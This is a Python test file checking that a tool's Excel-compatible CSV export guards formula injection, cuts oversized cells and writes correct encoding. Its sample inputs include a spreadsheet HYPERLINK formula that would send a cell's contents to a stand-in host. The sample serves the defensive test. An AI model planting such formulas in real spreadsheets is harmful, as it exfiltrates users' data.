#!/usr/bin/env python3
"""The copy of an export that Excel reads rightly, from answers that a spreadsheet would run or garble."""
import concurrent.futures
import csv
import io
import itertools
import os
import sys
from pathlib import Path

sys.path[:0] = [str(Path(__file__).resolve().parents[1] / "lib"), str(Path(__file__).resolve().parent)]
import harness
import test_reading as odd

TEXTS = ['=HYPERLINK("http://x.invalid/?"&A1,"open")', "+1-800 call", "-2 points", "@SUM(A1)", "\u00e9tat: \u2264 37 \u00b0C \u2013 na\u00efve",
         "line one\nline two", "\t=1+1", "a" * 33000, "\U0001f642" * 20000, "None"]


@harness.short
class Excel(harness.TestCase):
    def test_texts_are_guarded_and_whole_where_they_fit(self):
        said = itertools.cycle(TEXTS)
        server = odd.Provider(lambda body, times, headers: odd.chat(next(said)))
        folder = self.box.dir
        cases = "case_id,text\n" + "".join(f"c{i},Case {i}.\n" for i in range(len(TEXTS)))
        for name, text in (("cases.csv", cases), ("study.yaml", odd.STUDY.replace("QUESTION\n", "  - {name: q, ask: Why?, answer: free}\n").replace("analysis:", "# analysis:")),
                           ("providers.yaml", f"accounts: {{a: {{base_url: \"{server.url}\"}}}}\nmodels: {{m: {{account: a, model: m-1}}}}\n")):
            (folder / name).write_text(text)
        self.assertExit(self.box.clinsafe("run", folder / "study.yaml"))
        server.shutdown()
        server.server_close()
        for name, more in (("plain.csv", ()), ("excel.csv", ("--excel",))):
            self.assertExit(self.box.clinsafe("export", folder / "study.yaml", "--out", folder / name, *more))
        # what is no file is written as it is: a file in the place of /dev/null would be the end of a machine
        os.mkfifo(folder / "pipe")
        with concurrent.futures.ThreadPoolExecutor() as pool:
            came = pool.submit((folder / "pipe").read_bytes)
            self.assertExit(self.box.clinsafe("export", folder / "study.yaml", "--out", folder / "pipe"))
            self.assertEqual(came.result(10), (folder / "plain.csv").read_bytes())
        self.assertTrue((folder / "pipe").is_fifo())
        whole = (folder / "excel.csv").read_bytes()
        self.assertTrue(whole.startswith(b"\xef\xbb\xbfstudy,"))
        self.assertEqual(whole.count(b"\r\n"), 2 * len(TEXTS) + 1)
        plain = harness.rows_csv((folder / "plain.csv").read_text(encoding="utf-8"))
        excel = list(csv.DictReader(io.StringIO(whole.decode("utf-8-sig"), newline="")))
        self.assertEqual({r["text"] for r in plain}, set(TEXTS))
        self.assertEqual(len(excel), len(plain))
        for a, b in zip(plain, excel):
            wanted = dict(a)
            if len(a["text"].encode("utf-16-le")) // 2 > 32000:
                wanted["text"] = a["text"][:32000 if a["text"][0] == "a" else 16000] + " [cut]"
            wanted = {k: "'" + v if v[:1] in tuple("=+-@\t") and k == "text" else v for k, v in wanted.items()}
            self.assertEqual(b, wanted)
            self.assertLess(max(len(v.encode("utf-16-le")) // 2 for v in b.values()), 32768)

    def test_prompts_and_tables_too(self):
        study = self.box.copy("small")
        groups = study.parent / "groups.csv"
        groups.write_text(groups.read_text().replace("\nhomeless,", "\n-homeless,").replace("Check-in", "\u00c9tat: check-in"))
        truth = study.parent / "truth.yaml"
        truth.write_text(truth.read_text().replace("{homeless:", "{-homeless:"))
        run = self.box.clinsafe("run", study, "--simulator-args", "--latency-ms 0")
        self.assertExit(run)
        for form, more in (("plain", ()), ("excel", ("--excel",))):
            self.assertExit(self.box.clinsafe("plan", study, "--prompts", self.box.dir / f"{form}-prompts.csv", *more))
            self.assertExit(self.box.clinsafe("report", study, "--csv", self.box.dir / form, *more))
        pairs = [(self.box.dir / "plain-prompts.csv", self.box.dir / "excel-prompts.csv")]
        pairs += [(f, self.box.dir / "excel" / f.name) for f in sorted((self.box.dir / "plain").glob("*.csv"))]
        self.assertGreater(len(pairs), 15)
        guarded = 0
        for a, b in pairs:
            whole = b.read_bytes()
            self.assertTrue(whole.startswith(b"\xef\xbb\xbf"), b)
            excel = list(csv.reader(io.StringIO(whole.decode("utf-8-sig"), newline="")))
            plain = list(csv.reader(io.StringIO(a.read_text(encoding="utf-8"), newline="")))
            self.assertEqual(len(excel), len(plain), b)
            for x, y in zip(plain, excel):
                for cell, there in zip(x, y, strict=True):
                    self.assertIn(there, (cell, "'" + cell), b)
                    guarded += there != cell
                    if there != cell:
                        self.assertIn(cell[0], "=+-@", "only what runs is guarded")
                        self.assertNotRegex(cell, r"^-?[0-9.e+-]+$", "a number is no formula")
                    elif cell[:1] in ("=", "+", "-", "@"):
                        self.assertRegex(cell, r"^-?[0-9.e+-]+$", b)
        self.assertGreater(guarded, 20, "the level -homeless")

    def test_it_goes_with_a_table_only(self):
        for command, said in ((("plan", "x.yaml"), "--excel goes with --prompts FILE"), (("report", "x.yaml"), "--excel goes with --csv DIR")):
            done = self.box.clinsafe(*command, "--excel")
            self.assertExit(done, harness.EXIT_USAGE)
            self.assertOneLine(done.err, said)

    def test_it_goes_with_csv_only(self):
        done = self.box.clinsafe("export", "x.yaml", "--format", "jsonl", "--excel")
        self.assertExit(done, harness.EXIT_USAGE)
        self.assertOneLine(done.err, "--excel goes with --format csv")


if __name__ == "__main__":
    harness.main()
